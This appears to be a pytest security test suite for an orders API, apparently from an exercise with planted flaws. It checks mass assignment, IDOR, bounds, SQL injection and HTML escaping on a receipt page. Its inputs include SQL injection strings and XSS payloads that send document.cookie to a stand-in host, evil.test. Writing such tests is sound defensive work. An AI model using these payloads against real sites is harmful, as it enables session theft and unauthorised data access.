"""Placing, reading, listing and searching orders, and the HTML receipt.

Each exploit test is written the way an attacker or a careless client would act; the test
above it in the same section shows the honest use that must keep working.
"""

import json
from datetime import UTC, datetime, timedelta

import pytest
from conftest import (
    IMPORT,
    MAX_LINES,
    MAX_NOTE,
    MAX_QUANTITY,
    ORDERS,
    PAGE_SIZE,
    PARTNER,
    SEARCH,
    items,
    money,
    place,
)


def _import_one(client, internet, order):
    """Import a feed holding `order` (a POST body's shape) from the partner."""
    internet.serve(f"{PARTNER}/one.json", json.dumps({"orders": [order]}))
    return client.post(IMPORT, {"url": f"{PARTNER}/one.json"}, format="json")


# -- placing an order -------------------------------------------------------------------


def test_an_order_is_placed_with_its_lines_and_total(as_alice, catalogue):
    response = place(as_alice, ("DESK-01", 2), ("BOLT-M6", 10))
    assert response.status_code == 201, response.content
    order = response.json()
    assert order["status"] == "pending"
    assert money(order["total"]) == money("40.98"), "2 x 19.99 + 10 x 0.10"
    assert sorted(line["quantity"] for line in order["lines"]) == [2, 10]


def test_an_unknown_product_is_a_400(as_alice, catalogue):
    response = place(as_alice, ("NOPE-99", 1))
    assert response.status_code == 400
    assert "NOPE-99" in response.content.decode(), "the error should name the unknown SKU"


def test_a_retired_product_cannot_be_ordered(as_alice, catalogue):
    assert place(as_alice, ("LAMP-OLD", 1)).status_code == 400


# --8<-- [start:mass-assignment]
@pytest.mark.flaw("D6-F3")
@pytest.mark.parametrize("route", ["post", "import"])
def test_the_client_cannot_decide_the_order_is_paid(as_mallory, catalogue, internet, route):
    if route == "post":
        response = place(as_mallory, ("DESK-01", 1), status="paid", total="0.01")
    else:
        order = {"reference": "ERP-PAID", "status": "paid", "total": "0.01",
                 "lines": [{"sku": "DESK-01", "quantity": 1}]}  # fmt: skip
        response = _import_one(as_mallory, internet, order)
    assert response.status_code in (201, 400), response.content
    from orders.models import Order

    statuses = list(Order.objects.values_list("status", flat=True))
    assert "paid" not in statuses, (
        f"an order sent with status=paid ({route}) was stored paid: only the payment "
        "webhook may mark an order paid"
    )


# --8<-- [end:mass-assignment]


@pytest.mark.flaw("D6-F4")
@pytest.mark.parametrize("quantity", [-5, 0])
def test_a_line_needs_a_positive_quantity(as_mallory, catalogue, quantity):
    response = place(as_mallory, ("DESK-01", 3), ("DESK-01", quantity))
    assert response.status_code == 400, (
        f"a line of {quantity} desks was accepted (status {response.status_code}, "
        f"{response.content.decode()[:120]}): quantities start at 1"
    )


@pytest.mark.flaw("D6-F4")
def test_an_imported_line_needs_a_positive_quantity(as_mallory, mallory, catalogue, internet):
    order = {"reference": "ERP-NEG", "lines": [{"sku": "DESK-01", "quantity": 3},
                                               {"sku": "DESK-01", "quantity": -5}]}  # fmt: skip
    response = _import_one(as_mallory, internet, order)
    assert response.status_code == 400, "an imported line of -5 desks was accepted"
    assert not mallory.orders.exists()


# -- an order's upper bounds --------------------------------------------------------------


F16 = pytest.mark.flaw("D6-F16")


@pytest.mark.parametrize(
    "lines",
    [
        pytest.param([("DESK-01", 1)] * (MAX_LINES + 1), id="one-line-too-many", marks=F16),
        pytest.param([("DESK-01", MAX_QUANTITY + 1)], id="quantity-above-the-maximum", marks=F16),
        pytest.param([("YACHT-01", 200)], id="total-past-the-column", marks=F16),
        pytest.param(
            [("YACHT-01", 100), ("YACHT-01", 100)],
            id="lines-that-fit-a-sum-that-does-not",
            marks=F16,
        ),
        # Past the database's integer range: refused by the starter's model-derived field too.
        pytest.param([("DESK-01", 2**63)], id="quantity-past-bigint"),
    ],
)
def test_an_order_has_upper_bounds(as_mallory, mallory, catalogue, lines):
    response = place(as_mallory, *lines)
    listed = as_mallory.get(ORDERS).status_code
    assert listed == 200, (
        f"after this order (answered {response.status_code}) the customer's list answers "
        f"{listed}: a value the column cannot hold was stored, and every read of it fails"
    )
    assert response.status_code == 400, (
        f"an order of {len(lines)} line(s) answered {response.status_code}: at most "
        f"{MAX_LINES} lines of 1 to {MAX_QUANTITY}, and a total that fits its column"
    )
    assert not mallory.orders.exists()


def test_an_order_at_its_upper_bounds_is_placed(as_alice, catalogue):
    # Just inside every bound: the most lines, the largest quantity, the largest total.
    assert place(as_alice, *[("BOLT-M6", MAX_QUANTITY)] * MAX_LINES).status_code == 201
    response = place(as_alice, ("YACHT-01", 199), reference="PO-YACHT")
    assert response.status_code == 201, response.content
    assert money(response.json()["total"]) == money("9950000000.00")
    assert as_alice.get(ORDERS).status_code == 200


@pytest.mark.flaw("D6-F16")
def test_a_note_has_a_maximum_length(as_mallory, mallory, catalogue):
    response = place(as_mallory, ("DESK-01", 1), note="x" * (MAX_NOTE + 1))
    assert response.status_code == 400, f"a note of {MAX_NOTE + 1} characters was accepted"
    assert place(as_mallory, ("DESK-01", 1), note="x" * MAX_NOTE).status_code == 201


@pytest.mark.flaw("D6-F16")
def test_an_imported_order_has_the_same_bounds(as_mallory, mallory, catalogue, internet):
    order = {"reference": "ERP-BIG", "lines": [{"sku": "DESK-01", "quantity": 1}] * (MAX_LINES + 1)}
    response = _import_one(as_mallory, internet, order)
    assert response.status_code == 400, (
        f"an imported order of {MAX_LINES + 1} lines answered {response.status_code}"
    )
    assert not mallory.orders.exists()


@pytest.mark.flaw("D6-F5")
def test_totals_are_exact_to_the_cent(as_alice, catalogue):
    response = place(as_alice, ("BOLT-M6", 3))
    assert response.status_code == 201, response.content
    total = response.json()["total"]
    assert money(total) == money("0.30"), f"3 bolts at 0.10 cost 0.30, the API says {total!r}"
    # A JSON number is a binary float to most clients (JavaScript's included): the API sends
    # money as a decimal string, as DRF does with COERCE_DECIMAL_TO_STRING.
    assert isinstance(total, str), f"the total is sent as a JSON number ({total!r})"


# --8<-- [start:partial-write]
@pytest.mark.flaw("D6-F6")
def test_a_rejected_order_leaves_nothing_behind(as_alice, alice, catalogue):
    response = place(as_alice, ("DESK-01", 1), ("NOPE-99", 1))
    assert response.status_code == 400
    assert not alice.orders.exists(), (
        "the order was refused with a 400, yet an order row (with its first line) was "
        "saved: a failed request must write nothing"
    )


@pytest.mark.flaw("D6-F6")
def test_a_rejected_import_leaves_nothing_behind(as_alice, alice, catalogue, internet):
    from orders.models import OrderLine

    good = {"reference": "ERP-OK", "lines": [{"sku": "DESK-01", "quantity": 1}]}
    bad = {"reference": "ERP-BAD", "lines": [{"sku": "DESK-01", "quantity": 1},
                                             {"sku": "NOPE-99", "quantity": 1}]}  # fmt: skip
    internet.serve(f"{PARTNER}/mixed.json", json.dumps({"orders": [good, bad]}))
    response = as_alice.post(IMPORT, {"url": f"{PARTNER}/mixed.json"}, format="json")
    assert response.status_code == 400
    assert not alice.orders.exists(), (
        "the feed was refused with a 400, yet orders from it were saved: an import is "
        "the whole feed or none of it"
    )
    assert not OrderLine.objects.exists()


# --8<-- [end:partial-write]


# -- reading one order ------------------------------------------------------------------


def test_a_customer_reads_their_own_order(as_alice, alices_order):
    response = as_alice.get(f"{ORDERS}{alices_order['id']}/")
    assert response.status_code == 200
    assert response.json()["reference"] == "PO-ALICE"


# --8<-- [start:idor]
@pytest.mark.flaw("D6-F2")
@pytest.mark.parametrize("route", ["/api/orders/{id}/", "/orders/{id}/receipt/"])
def test_another_customers_order_is_not_found(as_mallory, alices_order, route):
    url = route.format(id=alices_order["id"])
    response = as_mallory.get(url)
    assert response.status_code == 404, (
        f"mallory read alice's order at {url} (status {response.status_code}): "
        "orders of other customers must be a 404 on every route that shows one"
    )
    assert "Leave at door 3" not in response.content.decode()


# --8<-- [end:idor]


def test_anonymous_callers_are_refused(client, alices_order):
    assert client.get(f"{ORDERS}{alices_order['id']}/").status_code in (401, 403)
    assert client.get(ORDERS).status_code in (401, 403)


# -- the list and its statement filter ----------------------------------------------------


def _order_at(owner, reference, when):
    from orders.models import Order

    order = Order.objects.create(owner=owner, reference=reference)
    Order.objects.filter(pk=order.pk).update(created_at=when)  # auto_now_add ignores a value
    return order


@pytest.fixture
def march(alice):
    _order_at(alice, "FEB-28", datetime(2026, 2, 28, 23, 59, tzinfo=UTC))
    _order_at(alice, "MAR-01", datetime(2026, 3, 1, 0, 0, tzinfo=UTC))
    _order_at(alice, "MAR-31-PM", datetime(2026, 3, 31, 14, 30, tzinfo=UTC))
    _order_at(alice, "APR-01", datetime(2026, 4, 1, 0, 0, tzinfo=UTC))


def test_the_list_shows_only_the_callers_orders(as_mallory, alices_order):
    response = as_mallory.get(ORDERS)
    assert response.status_code == 200
    assert items(response.json()) == []


def _statement(client, **dates):
    response = client.get(ORDERS, dates)
    assert response.status_code == 200, response.content
    return sorted(order["reference"] for order in items(response.json()))


def test_the_statement_starts_at_midnight_on_date_from(as_alice, march):
    assert _statement(as_alice, date_from="2026-03-01") == ["APR-01", "MAR-01", "MAR-31-PM"]


@pytest.mark.flaw("D6-F13")
def test_the_statement_includes_the_whole_of_date_to(as_alice, march):
    march_only = _statement(as_alice, date_from="2026-03-01", date_to="2026-03-31")
    assert march_only == ["MAR-01", "MAR-31-PM"], (
        "date_to=2026-03-31 must include orders placed on the 31st, and nothing from April"
    )


@pytest.mark.flaw("D6-F13")
@pytest.mark.parametrize(
    "query",
    [
        {"date_to": "31/03/2026"},
        {"date_from": "31/03/2026"},
        {"date_to": "2026-02-30"},
        {"date_from": "10000-01-01"},
    ],
    ids=lambda query: "=".join(*query.items()),
)
def test_a_malformed_date_is_a_400(as_alice, march, query):
    response = as_alice.get(ORDERS, query)
    assert response.status_code == 400, (
        f"{query} answered {response.status_code}: bad input is a 400 that says why"
    )


@pytest.mark.flaw("D6-F14")
@pytest.mark.parametrize("url", [ORDERS, f"{SEARCH}?q=PO-"])
@pytest.mark.parametrize(
    "asks_for",
    [{}, {"page_size": 10_000}, {"limit": 10_000}],
    ids=["default", "page_size", "limit"],
)
def test_every_list_is_paginated(as_alice, alice, url, asks_for):
    from orders.models import Order

    Order.objects.bulk_create(
        Order(owner=alice, reference=f"PO-{n:04}") for n in range(PAGE_SIZE + 10)
    )
    data = as_alice.get(url, asks_for).json()
    next_page = data.get("next") if isinstance(data, dict) else None
    assert next_page, (
        f"GET {url} {asks_for} returned all {len(items(data))} orders at once: pages of at "
        f"most {PAGE_SIZE}, with a link to the next page"
    )
    assert len(items(data)) <= PAGE_SIZE


# -- search -------------------------------------------------------------------------------


def test_search_finds_the_callers_orders_by_reference_prefix(as_alice, alice, mallory):
    now = datetime.now(UTC)
    _order_at(alice, "PO-2026-001", now)
    _order_at(alice, "INV-7", now - timedelta(days=1))
    _order_at(mallory, "PO-2026-999", now)
    response = as_alice.get(SEARCH, {"q": "PO-2026"})
    assert response.status_code == 200
    assert [order["reference"] for order in items(response.json())] == ["PO-2026-001"]


# --8<-- [start:sql-injection]
@pytest.mark.flaw("D6-F1")
@pytest.mark.parametrize(
    "q", ["' OR 1=1 --", "x' OR reference LIKE '", "PO-' OR 1=1 --", "1' OR 1=1 --"]
)
def test_search_input_is_data_not_sql(as_mallory, alices_order, q):
    response = as_mallory.get(SEARCH, {"q": q})
    found = (
        [order["reference"] for order in items(response.json())]
        if response.status_code == 200
        else []
    )
    assert "PO-ALICE" not in found, f"searching for {q!r} returned another customer's order"


# --8<-- [end:sql-injection]


@pytest.mark.flaw("D6-F1")
@pytest.mark.parametrize("q", ["'", "PO\x00"], ids=["quote", "nul"])
def test_any_search_is_answered_without_a_server_error(as_alice, alices_order, q):
    # PostgreSQL refuses NUL in a string, so q needs validating as well as binding.
    response = as_alice.get(SEARCH, {"q": q})
    assert response.status_code < 500, f"searching for {q!r} answered {response.status_code}"


@pytest.mark.parametrize(
    "q",
    [
        pytest.param("'", marks=pytest.mark.flaw("D6-F1")),
        pytest.param("%", marks=pytest.mark.flaw("D6-F1")),
        pytest.param("_", marks=pytest.mark.flaw("D6-F1")),
        "PO\\",
    ],
)
def test_search_characters_mean_themselves(as_alice, alices_order, q):
    # Quotes end SQL strings; % and _ are LIKE's wildcards. None of them starts "PO-ALICE".
    response = as_alice.get(SEARCH, {"q": q})
    assert response.status_code == 200, f"searching for {q!r} answered {response.status_code}"
    found = [order["reference"] for order in items(response.json())]
    assert found == [], f"searching for {q!r} found {found}: q is a prefix, not a pattern"


# -- the HTML receipt ----------------------------------------------------------------------


def test_the_receipt_keeps_the_notes_line_breaks(as_alice, catalogue):
    order = place(as_alice, ("DESK-01", 1), note="Ring twice\nLeave at door 3").json()
    page = as_alice.get(f"/orders/{order['id']}/receipt/").content.decode()
    assert "Ring twice<br>Leave at door 3" in page


@pytest.mark.flaw("D6-F11")
@pytest.mark.parametrize(
    "payload",
    [
        "<img src=x onerror=fetch('//evil.test/'+document.cookie)>",
        "<ScRiPt>fetch('//evil.test/'+document.cookie)</sCrIpT>",
        "<svg/onload=alert(1)>",
        "line one\n<iframe src=//evil.test>",
    ],
    ids=["img", "script-mixed-case", "svg", "after-a-line-break"],
)
def test_markup_in_the_note_is_shown_as_text(as_mallory, catalogue, payload):
    # The reference is customer text on the same page: a fix for one field must hold for
    # every field a customer typed.
    tag = payload.split("<", 1)[1][:4]
    order = place(as_mallory, ("DESK-01", 1), note=payload, reference=f"<{tag}>PO").json()
    page = as_mallory.get(f"/orders/{order['id']}/receipt/").content.decode()
    assert f"<{tag}" not in page, "customer text reached the receipt page as HTML"
    assert f"&lt;{tag}" in page, "the note is shown, as text"
